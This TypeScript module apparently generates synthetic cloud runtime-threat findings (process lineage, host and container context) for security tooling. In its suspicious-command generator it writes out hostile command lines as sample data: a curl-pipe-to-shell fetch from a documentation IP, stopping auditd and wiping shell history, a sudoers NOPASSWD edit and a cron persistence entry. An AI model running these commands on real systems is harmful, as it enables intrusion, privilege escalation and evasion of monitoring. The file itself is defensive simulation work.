/**
 * Runtime findings: the runtime agent's process detections on instances and containers. Each
 * carries `service.runtimeDetails`: the process with its lineage (its ancestors, nearest first)
 * and, for most types, the context the user guide's Runtime Monitoring finding details list for
 * that type (what was modified, mounted, loaded or injected, and by which process).
 */

import type { Rng } from "../random.js";
import { APPS } from "./inventory.js";
import { kubernetesWorkloadDetails } from "./kubernetes.js";
import { hostNetworkAction, type LocalHost } from "./network.js";
import {
  container,
  ecsClusterDetails,
  eksClusterDetails,
  instanceDetails,
  serviceAccountMount,
} from "./resources.js";
import { newParts, type Parts, type Scene } from "./scene.js";
import {
  DNS_PATTERN,
  RUNTIME_NETWORK_PATTERN,
  threatFamilyName,
  threatPurpose,
} from "./type-name.js";
import { epochSeconds, hexId, type Json, privateIp, uuid } from "./values.js";

interface ProgramSpec {
  name: string;
  path: string;
}

interface ProcessSpec extends ProgramSpec {
  context?: (scene: Scene, process: ProcessFacts) => Json;
}

/** What a context may repeat about the detected process. */
interface ProcessFacts {
  executableSha256: string;
  startMs: number;
}

const PROCESSES: Record<string, ProcessSpec> = {
  CryptoMinerExecuted: { name: "xmrig", path: "/tmp/.cache/xmrig" },
  ReverseShell: {
    name: "bash",
    path: "/usr/bin/bash",
    // The shell's standard streams are a TCP socket: AF_INET, IANA protocol 6 (TCP).
    context: () => ({ addressFamily: "AF_INET", ianaProtocolNumber: 6 }),
  },
  SuspiciousShellCreated: { name: "sh", path: "/bin/sh" },
  SuspiciousTool: {
    name: "nmap",
    path: "/usr/bin/nmap",
    context: () => ({ toolName: "nmap", toolCategory: "Network scanner" }),
  },
  SuspiciousCommand: { name: "bash", path: "/usr/bin/bash", context: suspiciousCommandContext },
  KernelModuleLoaded: {
    name: "insmod",
    path: "/usr/sbin/insmod",
    context: ({ rng }) => ({
      moduleName: "diamorphine",
      moduleFilePath: "/tmp/diamorphine.ko",
      moduleSha256: hexId(rng, 64),
    }),
  },
  DockerSocketAccessed: {
    name: "docker",
    path: "/usr/bin/docker",
    context: () => ({ socketPath: "/var/run/docker.sock" }),
  },
  RuncContainerEscape: {
    name: "runc",
    path: "/usr/bin/runc",
    context: () => ({ runcBinaryPath: "/usr/bin/runc" }),
  },
  CGroupsReleaseAgentModified: {
    name: "sh",
    path: "/bin/sh",
    context: () => ({ releaseAgentPath: "/sys/fs/cgroup/rdma/release_agent" }),
  },
  ContainerMountsHostDirectory: {
    name: "mount",
    path: "/usr/bin/mount",
    context: () => ({
      mountSource: "/dev/nvme0n1p1",
      mountTarget: "/mnt/host",
      fileSystemType: "xfs",
      flags: ["MS_BIND"],
    }),
  },
  NewLibraryLoaded: {
    name: "python3",
    path: "/usr/bin/python3",
    context: (scene, process) => ({
      libraryPath: "/tmp/.lib/libprocesshider.so",
      ldPreloadValue: "/tmp/.lib/libprocesshider.so",
      ...modifiedBy(scene, process, { name: "curl", path: "/usr/bin/curl" }),
    }),
  },
  FilelessExecution: {
    name: "memfd:payload",
    path: "/memfd:payload (deleted)",
    context: () => ({ memoryRegions: ["7f3a1c000000-7f3a1c021000 rwxp"] }),
  },
  MaliciousFileExecuted: {
    name: "kinsing",
    path: "/tmp/kinsing",
    context: () => ({ threatFilePath: "/tmp/kinsing" }),
  },
  ElevationToRoot: { name: "sudo", path: "/usr/bin/sudo" },
  UserfaultfdUsage: { name: "exploit", path: "/tmp/exploit" },
  PtraceAntiDebugging: { name: "agent", path: "/opt/agent/agent" },
  ProcessInjection: {
    name: "gdb",
    path: "/usr/bin/gdb",
    context: ({ rng }, process) => ({
      targetProcess: processDetails(
        rng,
        { name: "sshd", path: "/usr/sbin/sshd" },
        process.startMs - rng.int(1, 30) * 86_400_000,
        true,
      ),
      memoryRegions: ["55d1c2a00000-55d1c2a21000 rw-p [heap]"],
    }),
  },
  NewBinaryExecuted: {
    name: "updater",
    path: "/tmp/.x/updater",
    context: (scene, process) =>
      modifiedBy(scene, process, { name: "wget", path: "/usr/bin/wget" }),
  },
};

/** The process that wrote the file the detected process then ran or loaded, and when. */
function modifiedBy(scene: Scene, process: ProcessFacts, writer: ProgramSpec): Json {
  const { rng } = scene;
  const writtenMs = process.startMs - rng.int(5, 600) * 1000;
  return {
    modifyingProcess: processDetails(rng, writer, writtenMs - rng.int(1, 60) * 1000, true),
    modifiedAt: epochSeconds(writtenMs),
  };
}

/** SuspiciousCommand detections differ by threat purpose in what they report. */
function suspiciousCommandContext(scene: Scene): Json {
  const { rng, info } = scene;
  switch (threatPurpose(info.type)) {
    case "DefenseEvasion":
      // Stopping a security service, and wiping the shell history that shows it.
      return {
        serviceName: rng.pick(["auditd", "falcon-sensor", "amazon-ssm-agent"]),
        shellHistoryFilePath: rng.pick(["/root/.bash_history", "/home/app/.bash_history"]),
        commandLineExample: "systemctl stop auditd && history -c && rm -f ~/.bash_history",
      };
    case "Persistence":
      return {
        fileOperation: "Write",
        filePath: "/etc/cron.d/0hourly-update",
        relatedFilePaths: ["/etc/cron.d/0hourly-update", "/var/spool/cron/root"],
        commandLineExample: "echo '*/5 * * * * root /tmp/.x/updater' > /etc/cron.d/0hourly-update",
      };
    case "PrivilegeEscalation":
      return {
        fileOperation: rng.pick(["Write", "Rename", "Symlink"]),
        filePath: "/etc/sudoers",
        relatedFilePaths: ["/etc/sudoers", "/etc/sudoers.d/90-cloud-init-users"],
        commandLineExample: "echo 'app ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
      };
    case "Execution":
      return {
        scriptPath: "/tmp/.x/install.sh",
        commandLineExample: "curl -s http://198.51.100.7/install.sh | sh",
      };
    default:
      return { commandLineExample: "cat /etc/passwd; id; uname -a; ip addr" };
  }
}

const PROCESS_USERS = [
  { user: "root", id: 0 },
  { user: "app", id: 1000 },
  { user: "www-data", id: 33 },
] as const;

/** Who started whom: the usual chain above a process on a host and in a container. */
const HOST_ANCESTORS: readonly ProgramSpec[] = [
  { name: "bash", path: "/usr/bin/bash" },
  { name: "sshd", path: "/usr/sbin/sshd" },
  { name: "systemd", path: "/usr/lib/systemd/systemd" },
];
const CONTAINER_ANCESTORS: readonly ProgramSpec[] = [
  { name: "sh", path: "/bin/sh" },
  { name: "containerd-shim-runc-v2", path: "/usr/bin/containerd-shim-runc-v2" },
  { name: "systemd", path: "/usr/lib/systemd/systemd" },
];

/** A process and, with `withLineage`, its ancestors, each pointing at the next by uuid. */
function processDetails(
  rng: Rng,
  program: ProgramSpec,
  startMs: number,
  withLineage: boolean,
  ancestors: readonly ProgramSpec[] = HOST_ANCESTORS,
): Json {
  const owner = rng.pick(PROCESS_USERS);
  const process: Json = {
    name: program.name,
    executablePath: program.path,
    executableSha256: hexId(rng, 64),
    namespacePid: rng.int(1, 400),
    pwd: rng.pick(["/", "/tmp", "/root", "/app"]),
    pid: rng.int(1000, 65000),
    startTime: epochSeconds(startMs),
    uuid: uuid(rng),
    parentUuid: uuid(rng),
    user: owner.user,
    userId: owner.id,
    euid: owner.id,
  };
  if (withLineage) process.lineage = lineage(rng, process, startMs, ancestors);
  return process;
}

function lineage(
  rng: Rng,
  process: Json,
  startMs: number,
  ancestors: readonly ProgramSpec[],
): Json[] {
  const depth = rng.int(1, ancestors.length);
  const entries: Json[] = [];
  let childParent = process.parentUuid as string;
  let childStart = startMs;
  for (let level = 0; level < depth; level++) {
    const program = ancestors[level] as ProgramSpec;
    const started = childStart - rng.int(1, 3600) * 1000;
    const root = level === depth - 1 || program.name === "systemd";
    const entry: Json = {
      startTime: epochSeconds(started),
      namespacePid: level === ancestors.length - 1 ? 1 : rng.int(2, 400),
      userId: root ? 0 : (process.userId as number),
      name: program.name,
      pid: program.name === "systemd" ? 1 : rng.int(100, 65000),
      uuid: childParent,
      executablePath: program.path,
      euid: root ? 0 : (process.euid as number),
      parentUuid: uuid(rng),
    };
    entries.push(entry);
    childParent = entry.parentUuid as string;
    childStart = started;
  }
  return entries;
}

function runtimeDetails(scene: Scene, inContainer: boolean): { details: Json; sha256: string } {
  const { rng, info, createdMs } = scene;
  const spec = PROCESSES[threatFamilyName(info.type)] ?? {
    name: "python3",
    path: "/usr/bin/python3",
  };
  const startMs = createdMs - rng.int(1, 600) * 1000;
  const process = processDetails(
    rng,
    spec,
    startMs,
    true,
    inContainer ? CONTAINER_ANCESTORS : HOST_ANCESTORS,
  );
  const sha256 = process.executableSha256 as string;
  const details: Json = { process };
  if (spec.context) details.context = spec.context(scene, { executableSha256: sha256, startMs });
  return { details, sha256 };
}

interface RuntimeHost {
  parts: Parts;
  local: LocalHost;
  inContainer: boolean;
}

function runtimeHostParts(scene: Scene): RuntimeHost {
  const { rng, inventory, ctx, createdMs } = scene;
  const roll = rng.next();
  if (roll < 0.5) {
    const spec = rng.pick(inventory.instances);
    const parts = newParts(
      {
        resourceType: "Instance",
        instanceDetails: instanceDetails(spec, ctx.region, ctx.accountId),
      },
      `EC2 instance ${spec.instanceId}`,
    );
    const local = {
      ip: spec.privateIp,
      ipv6: spec.ipv6,
      networkInterfaceId: spec.networkInterfaceId,
    };
    return { parts, local, inContainer: false };
  }
  if (roll < 0.8) {
    const cluster = rng.pick(inventory.eksClusters);
    const name = `${rng.pick(APPS)}-${hexId(rng, 5)}`;
    const parts = newParts(
      {
        resourceType: "EKSCluster",
        eksClusterDetails: eksClusterDetails(cluster),
        kubernetesDetails: {
          kubernetesWorkloadDetails: kubernetesWorkloadDetails(
            scene,
            rng.pick(["default", "payments", "kube-system"]),
            name,
          ),
        },
        containerDetails: container(rng, {
          privileged: rng.chance(0.1),
          mount: serviceAccountMount(rng),
        }),
      },
      `EKS cluster ${cluster.name}`,
    );
    return { parts, local: { ip: privateIp(rng) }, inContainer: true };
  }
  const cluster = rng.pick(inventory.ecsClusters);
  const ecs = ecsClusterDetails(rng, cluster, createdMs);
  const task = ecs.taskDetails as Json;
  const parts = newParts(
    {
      resourceType: "ECSCluster",
      ecsClusterDetails: ecs,
      // The container the process ran in: the task's own.
      containerDetails: (task.containers as Json[])[0] as Json,
    },
    `ECS cluster ${cluster.name}`,
  );
  return { parts, local: { ip: privateIp(rng) }, inContainer: true };
}

/** The version of the GuardDuty security agent reporting, in `additionalInfo.agentDetails`. */
const AGENT_VERSIONS = ["1.6.1", "1.7.0", "1.8.2"];

/**
 * Custom detection rules (CreateCustomDetectionRule…) match Runtime Monitoring events; a
 * finding they raise names its rule. Some of the world's command detections come from them.
 */
const CUSTOM_RULES = ["block-curl-pipe-shell", "prod-no-recon-commands"];

export function runtimeParts(scene: Scene): Parts {
  const { info, rng } = scene;
  const { parts, local, inContainer } = runtimeHostParts(scene);
  const { details, sha256 } = runtimeDetails(scene, inContainer);
  parts.service.runtimeDetails = details;
  parts.additional.agentDetails = {
    agentId: uuid(rng),
    agentVersion: rng.pick(AGENT_VERSIONS),
  };
  if (info.type.includes("MaliciousFileExecuted")) {
    // The executable matched a known-malware hash: GuardDuty's threat intelligence names it.
    parts.service.evidence = {
      threatIntelligenceDetails: [
        { threatListName: "Amazon", threatNames: ["Kinsing"], threatFileSha256: sha256 },
      ],
    };
    parts.additional.threatFileSha256 = sha256;
  }
  if (info.type.endsWith(":Runtime/SuspiciousCommand") && rng.chance(0.3)) {
    parts.finding = { customDetectionRuleName: rng.pick(CUSTOM_RULES) };
  }
  if (DNS_PATTERN.test(info.type) || RUNTIME_NETWORK_PATTERN.test(info.type)) {
    Object.assign(parts, hostNetworkAction(scene, local));
  } else {
    // Process detections have no network action; the process is the actor.
    parts.resourceRole = "ACTOR";
  }
  return parts;
}
